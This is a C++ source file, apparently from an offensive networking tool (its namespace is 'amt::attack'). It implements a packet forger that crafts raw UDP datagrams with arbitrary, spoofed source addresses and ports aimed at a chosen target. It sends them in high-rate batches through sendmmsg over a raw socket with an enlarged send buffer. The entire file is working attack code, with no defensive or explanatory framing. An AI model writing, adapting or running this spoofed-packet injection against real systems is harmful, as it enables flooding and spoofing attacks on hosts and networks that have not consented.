#include "forger.hh"

#include <sys/socket.h>
#include <sys/uio.h>

#include <array>
#include <cerrno>
#include <cstring>

#include "ip/udp.hh"
#include "options.hh"
#include "sys/socket_address.hh"

namespace amt::attack {

// IPPROTO_RAW: the header is ours, in both families (raw(7), ipv6(7)).
Forger::Forger(const IpAddress& target)
    : target_(target), socket_(::socket(address_family(target.family()), SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW)) {
  if (!socket_) fail("raw socket", std::strerror(errno));
  const int octets = 4 << 20;
  static_cast<void>(::setsockopt(socket_.get(), SOL_SOCKET, SO_SNDBUF, &octets, sizeof octets));
}

void Forger::add_udp(const IpAddress& source, std::uint16_t source_port, std::uint16_t port, Bytes payload) {
  std::vector<std::byte> datagram(kIpv6HeaderOctets + kUdpHeaderOctets + payload.size());
  const HeaderFields header{.source = source, .destination = target_, .protocol = kProtocolUdp, .hop_limit = 64};
  datagram.resize(write_udp_datagram(datagram, header, source_port, port, payload));
  waiting_.push_back(std::move(datagram));
  if (waiting_.size() >= kBatch) flush();
}

void Forger::add(Bytes datagram) {
  waiting_.emplace_back(datagram.begin(), datagram.end());
  if (waiting_.size() >= kBatch) flush();
}

void Forger::flush() {
  std::array<mmsghdr, kBatch> messages{};
  std::array<iovec, kBatch> pieces{};
  SocketAddress to({target_, 0});
  for (std::size_t i = 0; i < waiting_.size(); ++i) {
    pieces[i] = {waiting_[i].data(), waiting_[i].size()};
    messages[i].msg_hdr.msg_name = to.data();
    messages[i].msg_hdr.msg_namelen = to.size();
    messages[i].msg_hdr.msg_iov = &pieces[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  for (std::size_t at = 0; at < waiting_.size();) {
    const int done = ::sendmmsg(socket_.get(), &messages[at], static_cast<unsigned>(waiting_.size() - at), 0);
    // One that the kernel does not take (a source that no host may have) is left out.
    if (done <= 0) {
      ++at;
      continue;
    }
    for (int i = 0; i < done; ++i, ++at) {
      ++sent_;
      sent_octets_ += waiting_[at].size();
    }
  }
  waiting_.clear();
}

}  // namespace amt::attack
